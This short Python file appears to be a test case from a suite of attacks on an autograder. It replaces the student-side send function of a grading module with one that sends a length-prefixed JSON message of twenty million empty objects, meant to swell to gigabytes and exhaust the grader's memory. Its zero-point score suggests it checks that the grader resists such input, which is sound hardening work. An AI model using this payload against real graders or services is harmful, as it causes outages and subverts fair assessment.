# /// attack
# tries = "Sends sixty megabytes that swell to gigabytes when they are read."
# points = 0
# obtains = {grader = 1_000_000_000}
# ///
# %% count
import hipkit.grading.student_side as side
import struct


def send(line, message):
    data = b'{"do":"result","rng":[],"value":{"t":"list","v":[' + b"{}," * 20_000_000 + b"{}]}}"
    line.sendall(struct.pack(">I", len(data)) + data)


def count_if(values, pick):
    side.send = send
